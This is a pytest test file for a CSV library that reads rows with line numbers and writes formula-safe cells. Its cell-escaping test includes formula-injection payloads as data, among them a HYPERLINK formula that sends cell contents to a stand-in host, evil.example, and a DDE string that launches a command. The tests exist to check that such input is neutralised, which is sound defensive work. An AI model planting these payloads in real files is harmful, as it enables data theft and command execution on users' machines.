"""curation.lib.csvfiles: rows with line numbers whatever the line endings, and formula-safe cells."""

import csv
import io

import pytest

from curation.lib import csvfiles
from curation.lib.csvfiles import SafeWriter, UnreadableFile, csv_cell, table_open


def read(path):
    table = table_open(path)
    return table.header, [(row.line, row.fields, row.error) for row in table.rows]


@pytest.mark.parametrize("ending", [b"\n", b"\r\n", b"\r"])
def test_lf_crlf_and_bare_cr_all_end_a_line(tmp_path, ending):
    path = tmp_path / "a.csv"
    path.write_bytes(ending.join([b"item,worker", b"a,w1", b"", b"b,w2"]) + ending)
    header, rows = read(path)
    assert header == ["item", "worker"]
    assert rows == [(2, ["a", "w1"], ""), (3, [], ""), (4, ["b", "w2"], "")]


def test_a_crlf_split_between_two_reads_is_one_line_ending(tmp_path, monkeypatch):
    monkeypatch.setattr(csvfiles, "CHUNK", 4)
    path = tmp_path / "a.csv"
    path.write_bytes(b"ab,c\r\nd,e\r\nfg,h\r\n")  # chunks "ab,c" "\r\nd," "e\r\nf" …: one ends in CR
    assert read(path) == (["ab", "c"], [(2, ["d", "e"], ""), (3, ["fg", "h"], "")])


@pytest.mark.parametrize("chunk", [3, 7, 1 << 20])
def test_line_numbers_hold_whatever_the_chunks_a_file_is_read_in(tmp_path, monkeypatch, chunk):
    monkeypatch.setattr(csvfiles, "CHUNK", chunk)
    path = tmp_path / "a.csv"
    path.write_bytes(b"\xef\xbb\xbfitem,w\r\na,1\r\nb,2\rc,\xe9\nd,4\n\ne,5")
    table = table_open(path)
    assert table.header == ["item", "w"]
    assert [(r.line, r.fields, r.error) for r in table.rows] == [
        (2, ["a", "1"], ""),
        (3, ["b", "2"], ""),
        (4, None, "not valid UTF-8 (byte 0xe9 at column 3)"),
        (5, ["d", "4"], ""),
        (6, [], ""),
        (7, ["e", "5"], ""),
    ]


def test_a_line_over_the_limit_is_a_bad_row_and_is_not_held_in_memory(tmp_path, monkeypatch):
    monkeypatch.setattr(csvfiles, "CHUNK", 8)
    monkeypatch.setattr(csvfiles, "MAX_LINE_BYTES", 20)
    path = tmp_path / "a.csv"
    path.write_bytes(b"item,worker\n" + b"x" * 50 + b",w\nb,w2\n")
    _, rows = read(path)
    assert rows == [(2, None, "line longer than 20 bytes"), (3, ["b", "w2"], "")]


def test_unreadable_rows_carry_their_reason_and_the_next_rows_are_read(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(
        b"item,worker\n"
        b"a,w\x001\n"  # 2: NUL
        b"b,caf\xe9\n"  # 3: Latin-1
        b'c,"w"x\n'  # 4: text after a closing quote
        b"d," + b"x" * (csv.field_size_limit() + 1) + b"\n"  # 5: over csv's field limit
        b'e,"w\n2"\n'  # 6-7: a quoted line break is one row that spans two lines
        b"f,w3\n"
    )
    table = table_open(path)
    rows = list(table.rows)
    assert [(r.line, r.error) for r in rows if r.error] == [
        (2, "a NUL byte at column 4 (is the file UTF-16 or binary?)"),
        (3, "not valid UTF-8 (byte 0xe9 at column 6)"),
        (4, "not readable as CSV: ',' expected after '\"'"),
        (5, "a field longer than 131072 characters"),
    ]
    spanning = rows[4]
    assert (spanning.line, spanning.last_line, spanning.fields) == (6, 7, ["e", "w\n2"])
    assert spanning.spanned("w\n2") and not spanning.spanned("e")
    assert (rows[5].line, rows[5].fields) == (8, ["f", "w3"])


def test_a_quote_never_closed_makes_the_file_unreadable_from_its_line(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(b'item,worker\na,w1\nb,"w2\nc,w3\n')
    rows = table_open(path).rows
    assert next(rows).fields == ["a", "w1"]
    with pytest.raises(
        UnreadableFile, match="line 3: a quote opened on this line is never closed, so lines 3–4"
    ):
        next(rows)


def test_an_empty_file_has_no_header_and_a_utf16_header_is_an_error(tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    assert table_open(tmp_path / "empty.csv").header is None
    (tmp_path / "wide.csv").write_bytes("item,worker\n".encode("utf-16-le"))
    assert "NUL byte at column 2" in table_open(tmp_path / "wide.csv").header_error


@pytest.mark.parametrize(
    "value, written",
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
        ),
        ("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""),
        ("-2+3", '"\'-2+3"'),
        ("@SUM(A1:A9)", '"\'@SUM(A1:A9)"'),
        ("\t=1", '"\'\t=1"'),
        ("\r=1", '"\'\r=1"'),
        ("a;=1+1", '"a;=1+1"'),  # quoted: a spreadsheet splitting on ";" keeps it one cell
        ("plain title", '"plain title"'),
        ("-3", "-3"),  # numbers are not formulas and stay numbers
        ("+4.5e-2", "+4.5e-2"),
        (-3, "-3"),
        (-0.25, "-0.25"),
        (True, "True"),
        (None, ""),
    ],
)
def test_text_that_would_start_a_formula_gets_a_quote_and_numbers_stay_as_they_are(value, written):
    assert csv_cell(value) == written


def test_the_safe_writer_reads_back_with_the_csv_module_with_the_quote_prefix_only():
    out = io.StringIO()
    SafeWriter(out).writerows([["title", "score"], ['=1+2";=1+2', -3], ["ok, fine", 0.5]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["title", "score"],
        ["'=1+2\";=1+2", "-3"],
        ["ok, fine", "0.5"],
    ]
